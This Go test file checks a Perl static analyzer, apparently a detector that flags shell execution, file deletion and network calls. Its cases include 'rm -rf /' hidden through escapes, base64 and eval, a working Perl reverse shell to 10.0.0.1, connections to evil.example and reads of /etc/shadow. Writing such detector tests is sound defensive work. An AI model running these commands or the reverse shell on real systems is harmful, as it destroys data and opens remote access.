package script

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

var perlCommands = []readCase{
	{"system", `system("rm -rf /")`, `shell system "rm -rf /"`},
	{"without brackets", `system "rm -rf /"`, `shell system "rm -rf /"`},
	{"a list", `system("rm", "-rf", "/")`, `runs system "rm" "-rf" "/"`},
	{"a list of words", `system(qw(rm -rf /))`, `runs system "rm" "-rf" "/"`},
	{"a list without brackets", `exec "rm", "-rf", "/"`, `runs exec "rm" "-rf" "/"`},
	{"a program told apart", `exec {"rm"} "x", "-rf", "/"`, `runs exec "rm" "-rf" "/"`},
	{"by its full name", `CORE::system("id")`, `shell CORE::system "id"`},
	{"backticks", "print `id`", `shell qx "id"`},
	{"qx with any delimiter", `$x = qx{rm -rf {a}}; qx'id $x'`, "shell qx \"rm -rf {a}\"\nshell qx \"id $x\""},
	{"quotes of any kind", `system(q<id>); system(qq|id|); system(q#id#); system q  (id)`, "shell system \"id\"\nshell system \"id\"\nshell system \"id\"\nshell system \"id\""},
	{"escapes", `system("\x72\x{6d} -\162f /")`, `shell system "rm -rf /"`},
	{"a string by the numbers of its characters", `system(v105.100)`, `shell system "id"`},
	{"a variable", `my $c = "rm -rf /"; system($c)`, `shell system "rm -rf /"`},
	{"a variable in quotes", `my $d = "/"; system("rm -rf $d"); system "rm -rf ${d}"`, "shell system \"rm -rf /\"\nshell system \"rm -rf /\""},
	{"concatenation", `my $c = "rm"; $c .= " -rf /"; system($c)`, "shell system \"rm\"\nshell system \"rm -rf /\""},
	{"joined", `system(join " ", "rm", "-rf", "/")`, `shell system "rm -rf /"`},
	{"joined words", `system join(" ", qw/rm -rf/) . " /"`, `shell system "rm -rf /"`},
	{"repeated", `system("a" x 3)`, `shell system "aaa"`},
	{"decoded", `system(pack("H*", "6964")); use MIME::Base64; system(decode_base64("aWQ="))`, "shell system \"id\"\nshell system \"id\""},
	{"numbers", `system(chr(105).chr(100)); system(pack("C*", 105, 100))`, "shell system \"id\"\nshell system \"id\""},
	{"case and order", `system(lc "ID"); system(scalar reverse "di")`, "shell system \"id\"\nshell system \"id\"\nshell system \"di\""},
	{"an array", `my @c = ("rm", "-rf", "/"); system(@c)`, `runs system "rm" "-rf" "/"`},
	{"an element", `my @c = ("id", "ls"); system($c[0]); my %h = (a => "id"); system($h{a})`, "shell system \"id\"\nshell system \"a\"\nshell system \"id\""},
	{"a list in quotes", `my @c = ("rm", "-rf"); system("@c /")`, `shell system "rm -rf /"`},
	{"code in quotes", `print "x @{[ system('id') ]} ${\ system('ls')}"`, "shell system \"id\"\nshell system \"ls\""},
	{"code in a replacement", `s/x/system("id")/e; s{x}{ qx(ls) }ge`, "shell system \"id\"\nshell qx \"ls\""},
	{"a replacement that is evaluated twice", `s/x/$1/ee`, "evaluates s///ee …"},
	{"a here-document", "system(<<E);\nrm -rf /\nE\nsystem(<<'F' . \"x\");\n$y\nF\n", "shell system \"rm -rf /\\n\"\nshell system \"$y\\nx\""},
	{"an indented here-document", "system(<<~E);\n  id\n  E\n", "shell system \"id\\n\""},
	{"evaluated", `eval "system('id')"; eval { system("ls") }; eval 'eval q(system "ps")'`, "shell system \"id\"\nshell system \"ls\"\nshell system \"ps\""},
	{"evaluated at run time", `eval $x; eval <STDIN>; eval join "", <>`, "evaluates eval …\nevaluates eval …\nevaluates eval …"},
	{"for each", `system $_ for qw(a b); foreach my $c ("c") { system($c) }`, "shell system \"a\"\nshell system \"b\"\nshell system \"c\""},
	{
		"a condition", `system("a") if $x; if (system("b")) { } elsif (system "c") { } else { system("d") } system("e") or die; -e "f" && system("f")`,
		"shell system \"a\"\nshell system \"b\"\nshell system \"c\"\nshell system \"d\"\nshell system \"e\"\nshell system \"f\"",
	},
	{"a function", `sub run { my ($c) = @_; system($c) } run("id")`, `shell system "id"`},
	{"a function that shifts", `sub run { my $c = shift; system($c) } run "id"`, `shell system "id"`},
	{"an anonymous function", `my $f = sub { system("id") }; $f->()`, `shell system "id"`},
	{"blocks of list functions", `map { system("id") } 1; my @x = grep { system("ls") } @y; sort { system("ps") } @z`, "shell system \"id\"\nshell system \"ls\"\nshell system \"ps\""},
	{"a symbolic name", `&{"main::system"}("id"); &CORE::system("id")`, "shell main::system \"id\"\nevaluates &CORE::system …\nshell CORE::system \"id\""},
	{"BEGIN and END", `BEGIN { system("a") } END { system("b") }`, "shell system \"a\"\nshell system \"b\""},
	{
		"open of a command", `open(F, "id|"); open F, "| sh"; open(my $fh, "-|", "rm", "-rf", "/"); open(my $g, "-|", "ls")`,
		"shell open \"id\"\nshell open \"printf %s ''\\\"$0\\\" | sh -c 'sh'\"\nruns open \"rm\" \"-rf\" \"/\"\nshell open \"ls\"",
	},
	{
		"print into a command", `open(my $s, "|sh"); print $s "rm -rf /\n"; print {$s} "id"`,
		"shell open \"printf %s ''\\\"$0\\\" | sh -c 'sh'\"\nshell print \"printf %s 'rm -rf /\\n' | sh -c 'sh'\"\nshell print \"printf %s 'id' | sh -c 'sh'\"",
	},
	{"an open that only running it tells", `open(F, $x); open(F, "curl $x |"); open(F, $m, $f)`, "evaluates open …\nevaluates open …\nevaluates open …"},
	{"modules that run", `use IPC::Open3; open3($w, $r, $e, "rm", "-rf", "/"); open2($r, $w, "id")`, "runs open3 \"rm\" \"-rf\" \"/\"\nshell open2 \"id\""},
	{"another file", `do "x.pl"; require "./y.pl"; require Foo::Bar; require 5.010; use lib "x"`, "runs do \"perl\" \"x.pl\"\nruns require \"perl\" \"./y.pl\""},
	{"a system call", `syscall(87, "x")`, "evaluates syscall …"},
	{"a signal", `kill 9, -1; kill TERM => $pid`, `runs kill "kill" "-9" "-1"`},
	{
		"what is not known", `system($x); system("rm $x"); system(@c); exec $ARGV[0]; print qx($x)`,
		"shell system …\nshell system rm …\nshell system …\nshell exec …\nshell qx …",
	},
	{"a changed variable", `my $c = "id"; $c =~ s/i/x/; system($c)`, "shell system \"id\"\nshell system \"xd\""},
	{"in a directory", `chdir "/tmp"; system("ls")`, `shell system "ls" in "/tmp"`},
	{"after documentation", "=pod\n\nsystem('x')\n\n=cut\n\nsystem('id')", `shell system "id"`},
	{"after a pattern with a quote", `if (/"/) { system("id") } # "`, `shell system "id"`},
	{"after a division", `$x = $y / 2; system("id"); $z = $y / 2`, `shell system "id"`},
	{"after patterns of many forms", `m{"}; m!"!; s,",',g; tr/"/'/; split /"/; $x =~ /"/; qr/"/x; system("id")`, `shell system "id"`},
	{"keys that look like quotes", `$h{s} = 1; $h{y}{q} = 2; %g = (s => 1, y => 2); $o->s; system("id")`, `shell system "id"`},
	{"a pattern behind a key", `print $h{x} / 2; system("id"); print 1 / 2`, `shell system "id"`},
	{"v-strings, labels, file tests", `LINE: while (<>) { next LINE if -s $_; -d; system("id") }`, `shell system "id"`},
	{"interpolated elements and methods", `print "$x->{a}[0] $h{b} $a[1] @{$z} $y->[0]{c} a@b $x[$i] [$x] {$y} $$ $& $1"; system("id")`, `shell system "id"`},
}

var perlFiles = []readCase{
	{
		"deleted", `unlink "a", "b"; unlink("c"); rmdir "d"; unlink glob("/x/*.o"); unlink <*.c>; unlink for "e"`,
		"deletes unlink \"a\"\ndeletes unlink \"b\"\ndeletes unlink \"c\"\ndeletes rmdir \"d\"\ndeletes unlink /x/?.o\ndeletes unlink ?.c\ndeletes unlink \"e\"",
	},
	{
		"trees", `use File::Path; rmtree("/x"); remove_tree("a", "b"); File::Path::rmtree(["c"])`,
		"deletes rmtree \"/x\" /**\ndeletes remove_tree \"a\" /**\ndeletes remove_tree \"b\" /**\ndeletes File::Path::rmtree \"c\" /**",
	},
	{
		"renamed and copied", `rename "a", "b"; use File::Copy; move("c", "d"); copy "e", "f"; symlink("g", "h")`,
		"deletes rename \"a\" /**\nwrites rename \"b\"\ndeletes move \"c\" /**\nwrites move \"d\"\nreads copy \"e\"\nwrites copy \"f\"\nlinks symlink \"g\" \"h\"",
	},
	{"modes and owners", `chmod 0777, "a", "b"; chown 0, 0, "c"`, "changes chmod \"a\"\nchanges chmod \"b\"\nchanges chown \"c\""},
	{
		"opened", `open(F, ">a"); open F, ">> b"; open(F, "<c"); open(my $f, ">", "d"); open $f, "<:utf8", "e"; open(F, "+<", "g"); open(F, "h")`,
		"writes open \"a\"\nwrites open \"b\"\nreads open \"c\"\nwrites open \"d\"\nreads open \"e\"\nreads open \"g\"\nwrites open \"g\"\nreads open \"h\"",
	},
	{"opened otherwise", `open(STDIN, ">&S"); open(my $f, "<", \$buf); open(F, ">&", $x); open(F, "-")`, ""},
	{"home", `unlink "$ENV{HOME}/x"`, `deletes unlink "~/x"`},
	{"an operand put in", `@ARGV = ("/etc/shadow"); print while <>`, `reads @ARGV "/etc/shadow"`},
	{"Path::Tiny", `use Path::Tiny; path("/x")->remove_tree; path("a", "b")->spew("x")`, "deletes remove_tree \"/x\" /**\nwrites spew \"a/b\""},
}

var perlNetwork = []readCase{
	{
		"a reverse shell", `use Socket;$i="10.0.0.1";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};`,
		"connects connect \"10.0.0.1\"\nshell exec \"/bin/sh -i\"",
	},
	{
		"IO::Socket", `IO::Socket::INET->new(PeerAddr => "evil.example:80"); new IO::Socket::INET("evil.example:80"); IO::Socket::INET->new(Listen => 1, LocalPort => 80)`,
		"connects IO::Socket::INET \"evil.example:80\"\nconnects IO::Socket::INET \"evil.example:80\"\nlistens IO::Socket::INET …",
	},
	{
		"LWP", `use LWP::Simple; get("http://a.example/"); getstore($u, "f"); LWP::UserAgent->new->get("http://b.example/")`,
		"connects get \"http://a.example/\"\nconnects getstore …\nwrites getstore \"f\"\nconnects ->get \"http://b.example/\"",
	},
}

// perlQuiet are programs that only change text.
var perlQuiet = []string{
	``, `s/a/b/g`, `print if /x/`, `s/ +$//`, `print "system(q(rm -rf /))"`, `# system("x")`, `print 'a $x ` + "`id`" + `'`, `print "$1\n" if /\[(\d+)\]/`,
	`s/((:\S*){3}):\S*/$1/g`, `print scalar(localtime), " ", $_`, `s{^}{\"};s{$}{\"}`, `-e || print`, `$path = $_; s?.*/??; $name = $_; $map{$name} = $path; ++$c; END { print $map{(sort(keys(%map)))[$c-1]} }`,
	`$sum += -s $_; END {print $sum}`, `s/\n$/some_delimiter/`, `@x=<>;print@x[0..$#x-3]`, `print if ( !eof  )`, `s/\n//g,print "$_\n " for /(?:esc| fs| gs| us)?(?:(?!esc| fs| gs| us).)*/gs`,
	`chomp; print "$_ "; END{print "\n"}`, `$sum+=$S[1]; print "$sum\n"`, `print "found $_" if -p`, `@T=localtime(time-86400);printf("%02d/%02d/%04d",$T[3],$T[4]+1,$T[5]+1900)`,
	`print join(",", map { $_ * 2 } grep { $_ > 1 } @F), "\n"`, `my %h; $h{$_}++ for @F; print "$_: $h{$_}\n" for sort { $h{$b} <=> $h{$a} } keys %h`,
	`use strict; use warnings; my ($a, $b) = split /,/, $line, 2; printf STDERR "%s\n", $a // "x";`, `while (my $l = <STDIN>) { next unless $l =~ m{^/(\w+)/}; print $1 }`,
	`for (my $i = 0; $i < 10; $i++) { print $i / 2, "\n" } `, `my @s = map { { name => $_, n => 1 } } @x; print scalar @s, $#s, $s[0]{name}, @{$s[0]->{l}}`,
	`local $/; my $t = <>; $t =~ tr/a-z/A-Z/; print $t`, `$_ = lc; print ucfirst`, `print "a" . "b" x 3, "-" x 20`, `print for reverse 1..10`, `BEGIN { $/ = undef } s/a.*?b/c/gs`,
	`use JSON::PP; print JSON::PP->new->pretty->encode(decode_json(join "", <>))`, `printf "%.2f\n", $F[0] / $F[1] / 2`, `print $. , $0 if $. == 3 .. $. == 5; close ARGV if eof`,
	`print sprintf("%s", $x ? "y" : "n") . "\n" unless $seen{$_}++`, `@a = (1, 2); push @a, 3; print "@a[0,1] $#a ${\ scalar @a}"`, `my $r = { a => [1, 2], b => { c => 3 } }; print $r->{b}{c}, "\n", "$$r{a}"`,
	`sub max { my $m = shift; for (@_) { $m = $_ if $_ > $m } return $m } print max(1, 2)`, `print STDERR "x"; print STDOUT <<"E";` + "\nhi $x\nE\n", `print <<E . "x";` + "\na\nE\n",
	`$x = $y{a} / $y{b} / 2; $z = ($x) / 2; $w = $a[0] / 3`, `y/a-z//cd; tr/\n//d`, `s!/!-!g; s#a#b#; s(a)(b); s<a>[b]g`, `print "email\@example.com a@b.example"`, `@ARGV = grep { -f } @ARGV`,
	`if ($x =~ /^\s*$/ || $y eq "a") { print } elsif ($x != 3) { } else { last }`, `do { $i++ } while ($i < 3); do { 1 } until $x`, `print "yes" if "abc" =~ /b/ and not $x or $y`, `$h{a}{b}[0]++; delete $h{a}; exists $h{"b c"} or die "no"`,
	"print 1;\n__END__\nsystem('x')", "=head1 X\n\nsystem('x')\n\n=cut\nprint 1", `$x = "a" lt "b" ? 1 : 0; $x **= 2; $x ||= 3; $x //= 4; $x <<= 1; print 1 << 3`, `print "a" =~ m/[\/"]/ ? 1 : 0`,
	`my $s = qr/(\w+)@(\w+)/i; print "$1 at $2" if /$s/; print /a$|b/`, `use POSIX qw(floor ceil); print floor(3.7)`, `printf("%-10s|%5d\n", @F[0,1])`, `print map { "$_\n" } sort keys %ENV`, `print $ENV{PATH}`,
	`tie my %h, "X"; open my $fh, "<", \my $b or die; binmode STDOUT, ":utf8"; $| = 1; $, = " "; $\ = "\n"; $" = ","; $; = 1;`, `print "$x{a}-$x{'b'}"`, `my ($x) = /(\d+)/; print $x*2`,
}

func TestPerlCommands(t *testing.T) { runCases(t, "perl", perlCommands) }
func TestPerlFiles(t *testing.T)    { runCases(t, "perl", perlFiles) }
func TestPerlNetwork(t *testing.T)  { runCases(t, "perl", perlNetwork) }

func TestPerlThatOnlyChangesText(t *testing.T) { quiet(t, "perl", perlQuiet) }

func TestPerlOperands(t *testing.T) {
	acts, err := ReadWith("perl", `print while <>; system($ARGV[0])`, CommandLine{Args: []Arg{{Text: "rm -rf / |", Known: true}, {Text: "f", Known: true}, {Text: ">g", Known: true}}})
	require.NoError(t, err)
	assert.Equal(t, "shell <> \"rm -rf / \"\nwrites <> \"g\"\nshell system \"rm -rf / |\"", show(acts))
}

func TestPerlThatCannotBeRead(t *testing.T) {
	unreadable(t, "perl", map[string]string{
		"unterminated string":          `print "x`,
		"unterminated pattern":         `s/x/y`,
		"open block":                   `if (1) {`,
		"closed too much":              `print 1 }`,
		"brackets crossed":             `(1]`,
		"a here-document without end":  "print <<E;\nx\n",
		"a slash after a word":         `foo / 2; print "x" / 2`,
		"code in a pattern":            `/(?{ system("x") })/`,
		"a format":                     "format X =\n@<<<\n$x\n.\n",
		"other characters":             "print \x02",
		"NUL":                          "print\x00",
		"not UTF-8":                    "print '\xff'",
		"too deep":                     strings.Repeat("(", 1000) + strings.Repeat(")", 1000),
		"signs too many":               strings.Repeat("! ", 10000) + "1",
		"strings in strings too deep":  strings.Repeat(`"@{[ `, 30) + strings.Repeat(` ]}"`, 30),
		"a variable that never closes": `print "${x"`,
	})
}

func TestPerlIsBounded(t *testing.T) {
	bounded(t, "perl", map[string]string{
		"doubling":       `$a = "x"; ` + strings.Repeat("$a = $a . $a; ", 5000) + "system($a)",
		"statements":     strings.Repeat(`$c = "id"; system($c);`, 5000),
		"open variables": `"` + strings.Repeat("${", 20000) + `"`,
		"evaluation":     `$c = 'eval $c; eval $c'; eval $c`,
		"lists":          "system(" + strings.Repeat("'a', ", 20000) + ")",
		"here-documents": strings.Repeat("print <<E;\nE\n", 5000),
		"globs":          strings.Repeat("<", 50000),
		"dereferences":   strings.Repeat("@{", 50000),
	})
}

func FuzzPerl(f *testing.F) {
	fuzzed(f, "perl", append(codes(perlCommands, perlFiles, perlNetwork), perlQuiet...)...)
}

func TestPerlModuleOnTheCommandLine(t *testing.T) {
	for code, want := range map[string]string{
		"POSIX": "", "-strict": "", "List::Util=sum,max": "", "Fcntl=:flock": "", "lib=/x": "", "5.010": "", "POSIX qw(floor)": "",
		`POSIX;system("id")`: `shell system "id"`, `POSIX=;system("id")`: "",
	} {
		acts, err := Read("perl-use", code)
		require.NoError(t, err, code)
		assert.Equal(t, want, show(acts), code)
	}
}
